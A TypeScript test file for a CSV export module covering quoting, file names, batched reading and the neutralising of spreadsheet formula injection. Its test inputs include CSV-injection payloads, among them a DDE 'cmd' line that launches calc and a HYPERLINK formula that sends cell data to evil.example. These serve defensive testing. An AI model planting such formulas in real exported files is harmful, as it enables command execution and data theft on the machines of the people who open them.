import { Readable } from 'node:stream';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readBatches, createCsvName, writeCsv, neutraliseFormula, restoreFormula } from './csv.ts';
import type { Cell } from './csv.ts';

/** The whole text of a table with rows in these batches. */
async function writeText(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
  const table = { name: 'test.csv', columns, batches: ReadableStream.from(batches) };
  return (await Readable.from(writeCsv(table)).toArray()).join('');
}

test('a table is UTF-8 with a BOM, each line ends with CRLF, and texts are quoted', async () => {
  const text = await writeText(['a', 'b'], [['Büro "Nord"', 1]], [['one\r\ntwo; three,', null]], [['', true]]);
  expect(text).toBe('\uFEFF"a","b"\r\n"Büro ""Nord""",1\r\n"one\r\ntwo; three,",\r\n"",true\r\n');
});

test('a table without rows has its header', async () => {
  expect(await writeText(['a', 'b'])).toBe('\uFEFF"a","b"\r\n');
});

test('a table’s file name contains its day in UTC', () => {
  expect(createCsvName('users', Date.parse('2026-11-21T23:59:59.000Z'))).toBe('users-2026-11-21.csv');
});

describe('a text that a spreadsheet would evaluate as a formula', () => {
  test.each([
    '=1+1',
    '+33 1 42 68 53 00',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\nx',
    ' =1',
    '"=1',
    "'=1",
    "''-1",
    "'\t",
    '\u00A0=1',
    '\u200B+1',
    '\uFEFF@x',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '﹣1',
    '−1',
    '“=1',
    '=cmd|’ /C calc’!A0',
    '=HYPERLINK("https://evil.example?"&A1)',
  ])('%j is neutralised, and an import restores it', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(restoreFormula(neutraliseFormula(text))).toBe(text);
  });

  test.each(['', 'Ada', "O'Neil", "'t Hooft", 'a=b', '3-4', 'ada@office.example', '004912', "''"])(
    '%j is none and stays as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
      expect(restoreFormula(text)).toBe(text);
    },
  );

  test('any text survives export and import, and none is exported with a formula sign in front', () => {
    const piece = fc.constantFrom('=', '+', '-', '@', '＝', "'", '"', ' ', '\t', '\r', '\n', '\u200B', 'a', '1', 'é');
    const text = fc.oneof(fc.string({ unit: piece, maxLength: 6 }), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(
        text,
        (each) =>
          restoreFormula(neutraliseFormula(each)) === each && !/^[=+\-@\t\r\n＝＋－＠]/.test(neutraliseFormula(each)),
      ),
      { numRuns: 5000 },
    );
  });
});

test('all rows of a list come in batches, each after the last row of the one before', async () => {
  const starts: (number | null)[] = [];
  const next = async (behind: number | null, most: number): Promise<number[]> => {
    starts.push(behind);
    return [1, 2, 3, 4, 5, 6].filter((row) => row > (behind ?? 0)).slice(0, most);
  };
  expect(await Readable.from(readBatches(next, 4)).toArray()).toEqual([
    [1, 2, 3, 4],
    [5, 6],
  ]);
  expect(await Readable.from(readBatches(next, 3)).toArray()).toEqual([
    [1, 2, 3],
    [4, 5, 6],
  ]);
  expect(starts).toEqual([null, 4, null, 3, 6]);
});
